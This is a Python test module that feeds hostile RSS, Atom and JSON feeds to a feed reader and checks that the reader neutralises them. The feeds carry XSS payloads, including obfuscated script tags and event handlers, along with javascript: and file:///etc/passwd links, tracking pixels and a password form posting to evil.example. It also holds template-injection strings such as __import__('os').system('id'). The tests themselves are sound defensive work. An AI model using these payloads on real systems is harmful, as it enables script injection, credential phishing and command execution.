"""Hostile markup: what acts, links that are none, pixels, forms, and what templates would run (F10, F11, F25, F26)."""

from collections.abc import Iterator
from html import escape

from tests.drills.hostile_cases import (
    READ,
    Case,
    Outcome,
    Surroundings,
    all_of,
    atom,
    case,
    feed,
    field_fits,
    field_is,
    holds,
    json_feed,
    lacks,
)


def cases(around: Surroundings) -> Iterator[Case]:
    """F10, F11, F25 and F26."""
    yield from _acting()
    yield from _links_that_are_none()
    yield from _watching(around)
    yield from _templates()


_ACTING = {
    "script": "<script>alert(1)</script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script unclosed": "<script>alert(1)",
    "script with a slash": "<script/x>alert(1)</script>",
    "script of another site": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "handler of a picture": "<img src=x onerror=alert(1)>",
    "handler without blanks": "<img/src=x/onerror=alert(1)>",
    "picture unclosed": "<img src=x onerror=alert(1)//",
    "svg": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "svg animated": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20>x</text></a></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "math link": "<math href='javascript:alert(1)'>x</math>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "frame with a document": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='javascript:alert(1)'>",
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "style of a tag": "<p style='background:url(javascript:alert(1));position:fixed'>x</p>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "body": "<body onload=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)></audio>",
    "input": "<input autofocus onfocus=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href='javascript:alert(1)//'>",
    "nul in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "zero width in a tag": "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "soft hyphen in a tag": "<i\u00admg src=x onerror=alert(1)>",
    "direction in a tag": "<\u202eiframe src='javascript:alert(1)'>",
    "CDATA within": "<![CDATA[<script>alert(1)</script>]]>",
    "form": "<form action='javascript:alert(1)'><button formaction='javascript:alert(2)'>x</button></form>",
}
_QUIET = all_of(
    *(lacks("html", word) for word in ("<script", "onerror=", "onload=", "ontoggle=", "<svg", "<iframe", "style=")),
    *(lacks("title", word) for word in ("<script", "<svg", "<iframe")),
    *(lacks("author", word) for word in ("<script", "<svg", "<iframe")),
)


def _acting() -> Iterator[Case]:
    for name, markup in _ACTING.items():
        plain = escape(markup)
        everywhere = feed(
            f"News {plain}",
            plain,
            channel=f"<title>feed {plain}</title><description>{plain}</description>",
            more=f"<author>{plain} x@a.example (Ada)</author><category>{plain}</category>"
            f"<dc:creator>Ada {plain}</dc:creator>"
            f"<content:encoded>{plain} and a text</content:encoded>"
            f"<enclosure url='{plain}' type='image/png'/><media:thumbnail url='{plain}'/>",
        )
        # escaped NULs are no XML: what then matters is that nothing of it acts
        yield case("F10", f"acting: {name}", everywhere, READ, "unreadable_feed", check=_QUIET)
    for name in ("script", "svg", "math", "frame with a document"):
        twice = escape(escape(_ACTING[name]))
        yield case("F10", f"acting, escaped twice: {name}", feed(f"News {twice}", twice), READ)
    entry = "<title type='html'>News {0}</title><link href='https://a.example/1'/><author><name>{0}</name><uri>javascript:x</uri></author>"
    for name in ("script", "handler of a picture", "svg", "nul in a tag"):
        plain = escape(_ACTING[name].replace("\x00", ""))
        document = atom(entry.format(plain) + f"<content type='html'>{plain}</content>")
        yield case("F10", f"acting in Atom: {name}", document, READ, check=_QUIET)
    xhtml = (
        "<title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>News <script>alert(1)</script></div></title>"
        "<link href='https://a.example/1'/><content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>"
        "<p onclick='alert(1)'>x<script>alert(1)</script></p>"
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
        "</div></content>"
    )
    yield case("F10", "acting in XHTML", atom(xhtml), READ, check=_QUIET)
    document = json_feed(
        title="News <img src=x onerror=alert(1)>",
        authors=[{"name": "<svg onload=alert(1)>", "url": "javascript:x"}],
        content_html="<p>text <img src=x onerror=alert(1)><script>alert(1)</script></p>",
    ).replace('"feed"', '"<script>alert(1)</script>"')
    yield case("F10", "acting in JSON", document, READ, check=_QUIET)


_NO_LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "j&amp;Tab;avascript:alert(1)",
    "javascript&amp;colon;alert(1)",
    "&#1;javascript:alert(1)",
    "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "about:blank",
    "view-source:https://a.example/",
    "mailto:a@b.example",
    "tel:+123",
    "feed:javascript:alert(1)",
    "jar:https://a.example/!/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https://user:word@a.example/",
    "https://a.example@evil.example/",
    "http://",
    "http://[::1",
    "http://a b.example/",
    "ftp://a.example/x",
    "intent://x#Intent;scheme=javascript;end",
)


def _no_such_link(outcome: Outcome) -> str:
    """The link is none and told, or a path on the feed's own host; in a body it is gone."""
    entry = outcome.entries[0]
    if "no usable link" not in entry.review and "127.0.0.3" not in entry.link.split("/")[2]:
        return f"links to {entry.link}"
    scheme = ("javascript:", "data:", "vbscript:", "file:", "blob:", "mailto:", "evil.example@", "word@")
    return next((f"{word} in the body" for word in scheme if f'href="{word}' in entry.html or word in entry.link), "")


def _links_that_are_none() -> Iterator[Case]:
    for link in _NO_LINKS:
        body = escape(f"<a href='{link}'>x</a> and <img src='{link}'>")
        document = feed(link=link, body=body, guid="a name", more=f"<enclosure url='{link}' type='image/png'/>")
        yield case("F11", f"link: {link}", document, READ, "unreadable_feed", check=_no_such_link)
    for link in ("javascript:alert(1)", "data:text/html,x"):
        guid = f"<guid isPermaLink='true'>{link}</guid>"
        yield case("F11", f"guid as a link: {link}", feed(link="", more=guid), READ, check=_no_such_link)
        yield case(
            "F11", f"link in Atom: {link}", atom(f"<title>t</title><link href='{link}'/>"), READ, check=_no_such_link
        )
        document = json_feed(url=link, image=link)
        yield case("F11", f"link in JSON: {link}", document, READ, check=_no_such_link)
    site = feed(channel="<title>t</title><link>javascript:alert(1)</link>")
    none = lambda outcome: "" if outcome.reading.site_url == "" else f"the site is {outcome.reading.site_url}"  # noqa: E731
    yield case("F11", "link of the site itself", site, READ, check=none)


def _watching(around: Surroundings) -> Iterator[Case]:
    pixels = (
        "<img src='https://a.example/pixel.gif'>",
        "<img src='https://a.example/1x1.gif'>",
        "<img src='https://a.example/a.gif' width='1' height='1'>",
        "<img src='https://stats.a.example/a.gif'>",
        f"<img src='{around.canary}/seen.gif'>",
    )
    for markup in pixels:
        watched = feed(body=escape(f"<p>text {markup}</p>"))
        yield case("F25", f"pixel: {markup[10:50]}", watched, READ, check=lacks("html", "<img"))
    for name, markup in {
        "form": "<form action='https://evil.example'><input name=password><button>Sign in</button></form><p>text</p>",
        "style": "<style>p{display:none}</style><p class='x' id='y'>text</p>",
        "style of a tag": "<p style='display:none'>text</p>",
        "hidden": "<p hidden>text</p>",
        "link to a style": "<link rel=stylesheet href='https://evil.example/a.css'><p>text</p>",
        "srcset": "<img srcset='https://evil.example/a.png 1x' src='https://a.example/big.png'><p>text</p>",
        "ping": "<a href='https://a.example/' ping='https://evil.example/'>text</a>",
        "background": "<table background='https://evil.example/x.png'><tr><td>text</td></tr></table>",
    }.items():
        quiet = all_of(lacks("html", "evil.example"), lacks("html", "style="), lacks("text", "Sign in"))
        yield case("F25", f"in a body: {name}", feed(body=escape(markup)), READ, check=quiet)


def _templates() -> Iterator[Case]:
    for text in (
        "{{ 7*7 }}",
        "{% for a in b %}x{% endfor %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config }}",
        "{# a #}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "%(a)s {0} {a.b}",
        "__import__('os').system('id')",
    ):
        plain = escape(text)
        same = all_of(
            field_is("title", " ".join(text.split())), holds("text", text), field_fits("html", bool, "is empty")
        )
        yield case("F26", f"template: {text}", feed(plain, f"{escape(f'<p>{escape(text)}</p>')}"), READ, check=same)
    for name, markup in (
        ("mj-include", "<mj-include path='/etc/passwd' />"),
        ("mj-raw", "<mj-raw><script>alert(1)</script></mj-raw>"),
        ("end of mj-text", "</mj-text></mj-column><mj-image src='https://evil.example/'/>"),
        ("end of CDATA", "]]>"),
        ("less than", "a < b && c > d"),
        ("end of a comment", "--> <!-- <mj-text>"),
    ):
        document = feed(escape(f"News {markup}"), escape(f"<p>text {markup}</p>"))
        yield case(
            "F26",
            f"markup of letters: {name}",
            document,
            READ,
            check=all_of(lacks("html", "<mj-"), lacks("html", "]]>")),
        )
